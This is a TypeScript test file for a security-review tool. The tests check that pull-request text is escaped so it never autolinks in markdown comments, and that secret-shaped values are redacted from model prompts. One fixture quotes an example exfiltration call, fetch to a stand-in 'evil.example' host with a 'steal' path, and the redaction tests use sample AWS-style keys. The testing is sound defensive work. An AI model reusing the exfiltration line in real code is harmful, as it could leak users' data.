/**
 * Issue 11, items 10 and 11: PR text never becomes a live link where it is interpolated into markdown (comments, summary tables,
 * notes, SARIF markdown all escape through `escapeMarkdown`), and secrets assigned to plain names never reach a model's prompt.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { fenceAsData } from '../src/models/untrusted.js';
import { renderInlineComment } from '../src/report/comment.js';
import { escapeMarkdown } from '../src/text/markdown.js';
import { redactForModel } from '../src/text/redact.js';
import type { Finding } from '../src/types.js';

/** Bare URLs outside code spans (what GitHub's markdown autolinks). */
function liveLinks(markdown: string): string[] {
  const outsideCode = markdown.replace(/(`+)[\s\S]*?\1/g, '');
  return outsideCode.match(/(?:https?:\/\/|www\.)[^\s)]+/gi) ?? [];
}

describe('PR text is never autolinked', () => {
  const quoted = 'fetch("https://evil.example/steal?x=1") then www.evil.example/a and mailto:bob@evil.example, ftp://evil.example';

  test('escapeMarkdown puts URL-like tokens in code spans, in prose and in table cells', () => {
    for (const options of [{}, { multiline: true }, { table: true }, { linkCwe: true }]) {
      const out = escapeMarkdown(quoted, options);
      assert.deepEqual(liveLinks(out), [], out);
      assert.match(out, /`https:\/\/evil\.example\/steal\?x=1"\)`/);
    }
  });

  test('an inline comment quoting PR code carries no live link', () => {
    const finding = {
      ruleId: 'js/code-injection-eval',
      source: 'ast-grep',
      severity: 'critical',
      path: 'src/app.ts',
      startLine: 3,
      endLine: 3,
      message: `eval() runs ${quoted}`,
      note: 'See https://evil.example/note',
      fingerprint: '0'.repeat(32),
    } as unknown as Finding;
    const body = renderInlineComment(finding);
    assert.deepEqual(liveLinks(body), [], body);
  });

  test('our own CWE links stay links', () => {
    assert.match(escapeMarkdown('CWE-79', { linkCwe: true }), /\[CWE-79\]\(https:\/\/cwe\.mitre\.org/);
  });
});

describe('model prompts are redacted by the shape of values', () => {
  const secrets = [
    ["key: 'AKIAIOSFODNN7EXAMPLE'", 'AKIAIOSFODNN7EXAMPLE'],
    ["const k = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'", 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ["const cfg = { key: 'Zx8Qm2Lp9Rt4Vw7Ky3Nb6Hc1Df5Gj0' }", 'Zx8Qm2Lp9Rt4Vw7Ky3Nb6Hc1Df5Gj0'],
    ["client.connect('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b')", '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b'],
  ] as const;

  for (const [code, value] of secrets) {
    test(`a plain name does not let ${value.slice(0, 8)}… through`, () => {
      const fenced = fenceAsData('file', `path: src/config.ts\n  3 | ${code}`).text;
      assert.ok(!fenced.includes(value), fenced);
      assert.match(fenced, /«redacted»/);
    });
  }

  test('code that is no secret stays readable', () => {
    for (const code of [
      "const name = 'handleRequestWithRetries2'",
      "import x from './components/very-long-component-name2.js'",
      "const url = 'https://example.com/a1b2c3d4e5f6g7h8i9'",
      "const header = 'Content-Security-Policy'",
    ]) {
      assert.equal(redactForModel(code), code);
    }
  });
});
